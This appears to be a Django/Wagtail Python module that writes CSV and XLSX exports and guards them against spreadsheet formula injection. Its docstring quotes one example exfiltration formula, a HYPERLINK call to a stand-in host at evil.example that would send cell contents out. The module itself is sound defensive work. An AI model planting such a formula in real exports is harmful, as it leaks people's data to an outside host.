"""The one writer of every CSV and XLSX file Waypoint serves: no cell can become a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or line break before one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1,"click")``
typed as a neighbourhood or a problem report's note would leak a supervisor's file. Such text
gets a leading ``'``, which spreadsheets show as text; a number such as ``-72.685`` stays a number.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from itertools import chain

from django.http import StreamingHttpResponse
from django.urls import path

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def formula_safe(value):
    """``value`` as a spreadsheet will show it, never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class _Echo:
    def write(self, value):
        return value


def csv_response(
    filename: str, header: Iterable, rows: Iterable[Iterable]
) -> StreamingHttpResponse:
    """A streamed UTF-8 CSV download (with a BOM, so that spreadsheets read the accents right)."""
    writer = csv.writer(_Echo())

    def stream() -> Iterator[str]:
        yield "\ufeff"
        for row in chain([header], rows):
            yield writer.writerow([formula_safe(value) for value in row])

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


class FormulaSafeExportMixin:
    """For Wagtail views with ``SpreadsheetExportMixin`` (reports, listings): every exported cell,
    CSV and XLSX, goes through :func:`formula_safe`. Put it before the Wagtail view in the bases."""

    def preprocess_field_value(self, field, value, export_format):
        return formula_safe(super().preprocess_field_value(field, value, export_format))


def formula_safe_urls(prefix: str, patterns) -> list:
    """Wagtail's own report URLs again, in front of Wagtail's: the same views, made formula-safe.

    Unnamed, so ``reverse()`` still names Wagtail's patterns, which resolve to the same paths and
    so reach these first.
    """
    safe = []
    for pattern in patterns:
        view = pattern.callback
        view_class = type(view.view_class.__name__, (FormulaSafeExportMixin, view.view_class), {})
        safe.append(path(prefix + str(pattern.pattern), view_class.as_view(**view.view_initkwargs)))
    return safe
